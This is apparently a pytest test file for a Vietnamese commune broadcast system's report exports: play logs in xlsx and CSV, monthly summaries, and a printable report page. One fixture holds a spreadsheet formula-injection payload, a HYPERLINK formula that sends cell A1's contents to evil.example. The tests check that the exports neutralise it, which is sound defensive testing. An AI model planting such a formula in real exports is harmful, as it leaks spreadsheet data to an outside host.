"""The report files officials open in Excel and send to the district, through the API and the
pages: the play log as .xlsx (opened with openpyxl) and as CSV (UTF-8 BOM), in local time with
Vietnamese headers and words, no cell a formula; the stable CSV for integrations; the monthly
summary as JSON, .xlsx and the printable page; a bad month refused (422 ``bad_month``)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from fastapi.testclient import TestClient

from controller.core.db import insert
from controller.domain.seed import SeededCommune
from loa.protocol import to_wire_time
from tests.controller.conftest import People
from tests.controller.test_web import _signed_in

#: 17:30 UTC on 30 November 2026 is 00:30 on 1 December in Vietnam.
PLAYED_AT = datetime(2026, 11, 30, 17, 30, tzinfo=UTC)
#: A title an attacker hopes a spreadsheet runs.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def played(client: TestClient, commune: SeededCommune) -> SeededCommune:
    """An emergency health bulletin with a formula for a title, played 10 minutes on every
    cluster at 00:30 local on 1 December."""
    store = client.app.state.runtime.store  # type: ignore[attr-defined]
    with store.transaction() as db:
        announcement = insert(
            db,
            "announcements",
            {"title": FORMULA_TITLE, "status": "approved", "category": "y_te"},
        )
        broadcast = insert(
            db,
            "broadcasts",
            {
                "announcement_id": announcement,
                "zone_ids": "[]",
                "starts_at": to_wire_time(PLAYED_AT),
                "priority": "emergency",
                "status": "active",
            },
        )
        for node in commune.nodes:
            insert(
                db,
                "dispatches",
                {
                    "broadcast_id": broadcast,
                    "occurrence": to_wire_time(PLAYED_AT),
                    "node_id": node.node_id,
                    "play_at": to_wire_time(PLAYED_AT),
                    "state": "played",
                    "started_at": "2026-11-30T17:30:00Z",
                    "finished_at": "2026-11-30T17:40:00Z",
                },
            )
    return commune


def _workbook(response) -> openpyxl.Workbook:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return openpyxl.load_workbook(io.BytesIO(response.content))


def _no_formulas(book: openpyxl.Workbook) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_play_log_xlsx_is_in_local_time_with_vietnamese_words_and_no_formula(
    client: TestClient, played: SeededCommune
) -> None:
    book = _workbook(client.get("/api/v1/reports/plays?format=xlsx"))
    sheet = book.active
    assert sheet is not None and sheet.title == "Nhật ký phát"
    header = [c.value for c in sheet[1]]
    assert header[:9] == [
        "Thời gian phát (UTC+07:00)",
        "Cụm loa",
        "Mã cụm loa",
        "Thôn/xóm",
        "Bản tin",
        "Chuyên mục",
        "Loại",
        "Mức ưu tiên",
        "Kết quả",
    ]
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    assert len(rows) == len(played.nodes)
    first = dict(zip(header, rows[0], strict=True))
    assert first["Thời gian phát (UTC+07:00)"] == datetime(2026, 12, 1, 0, 30)
    assert first["Kết thúc (UTC+07:00)"] == datetime(2026, 12, 1, 0, 40)
    assert (first["Chuyên mục"], first["Loại"], first["Mức ưu tiên"], first["Kết quả"]) == (
        "Y tế",
        "Bản tin",
        "Khẩn cấp",
        "Đã phát",
    )
    assert first["Bản tin"] == "'" + FORMULA_TITLE  # shown as text, never run
    _no_formulas(book)


def test_play_log_csv_for_people_has_a_bom_local_times_and_vietnamese_words(
    client: TestClient, played: SeededCommune
) -> None:
    response = client.get("/api/v1/reports/plays?format=csv&labels=vi")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Thời gian phát (UTC+07:00)", "Cụm loa"]
    assert rows[1][0] == "2026-12-01 00:30:00"
    assert {"Y tế", "Khẩn cấp", "Đã phát", "'" + FORMULA_TITLE} <= set(rows[1])


def test_play_log_csv_for_integrations_keeps_codes_and_utc_but_no_formula(
    client: TestClient, played: SeededCommune
) -> None:
    response = client.get("/api/v1/reports/plays?format=csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["play_at"].startswith("2026-11-30T17:30:00")
    assert (rows[0]["state"], rows[0]["priority"], rows[0]["category"]) == (
        "played",
        "emergency",
        "y_te",
    )
    assert rows[0]["title"] == "'" + FORMULA_TITLE
    assert client.get("/api/v1/reports/plays").json()[0]["title"] == FORMULA_TITLE


def test_monthly_summary_api_as_json_and_xlsx(client: TestClient, played: SeededCommune) -> None:
    december = client.get("/api/v1/reports/monthly?month=2026-12").json()
    n = len(played.nodes)
    assert (december["first_day"], december["timezone"]) == ("2026-12-01", "Asia/Ho_Chi_Minh")
    total = december["total"]
    assert (total["seconds"], total["bulletins"], total["emergencies"]) == (600.0, 1, 1)
    assert (december["total"]["played"], december["total"]["dispatched"]) == (n, n)
    assert client.get("/api/v1/reports/monthly?month=2026-11").json()["total"]["bulletins"] == 0

    book = _workbook(client.get("/api/v1/reports/monthly?month=2026-12&format=xlsx"))
    assert book.sheetnames == ["Theo thôn-xóm", "Theo chuyên mục"]
    by_category = [[c.value for c in r] for r in book["Theo chuyên mục"].iter_rows()]
    assert [r[0] for r in by_category[:3]] == [
        "UBND Xã Lạc Lâm",
        "BÁO CÁO TỔNG HỢP THÁNG 12/2026",
        "Hoạt động truyền thanh từ ngày 01/12/2026 đến ngày 31/12/2026",
    ]
    header_at = next(i for i, r in enumerate(by_category) if r[0] == "Chuyên mục")
    assert by_category[header_at][1:3] == ["Số giờ phát", "Số bản tin"]
    assert by_category[header_at + 1][:3] == ["Y tế", 0.17, 1]
    assert by_category[-1][0] == "Tổng cộng" and by_category[-1][-1] == 100.0
    _no_formulas(book)


@pytest.mark.parametrize("month", ["2026-13", "abc"])
def test_a_bad_month_is_422_bad_month(client: TestClient, month: str) -> None:
    refused = client.get(f"/api/v1/reports/monthly?month={month}")
    assert refused.status_code == 422
    assert refused.json()["error"]["code"] == "bad_month"


def test_monthly_page_is_the_form_a_commune_sends_up(
    client: TestClient, people: People, played: SeededCommune
) -> None:
    viewer, _ = _signed_in(client, "viewer")
    reports_page = viewer.get("/reports").text
    assert 'href="/reports/monthly?month=' in reports_page
    assert "format=xlsx" in reports_page and "labels=vi" in reports_page

    page = viewer.get("/reports/monthly?month=2026-12")
    assert page.status_code == 200
    for words in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "XÃ LẠC LÂM",
        "BÁO CÁO TỔNG HỢP THÁNG 12/2026",
        "từ ngày 01/12/2026 đến ngày 31/12/2026",
        "NGƯỜI LẬP BIỂU",
        "CHỦ TỊCH UBND XÃ",
        "Xã Lạc Lâm, ngày ",
        "/api/v1/reports/monthly?month=2026-12&amp;format=xlsx",
    ):
        assert words in page.text, words

    for month in ("2026-13", "abc"):
        refused = viewer.get(f"/reports/monthly?month={month}")
        assert refused.status_code == 422
        assert "Tháng báo cáo không hợp lệ" in refused.text
        assert "NGƯỜI LẬP BIỂU" not in refused.text
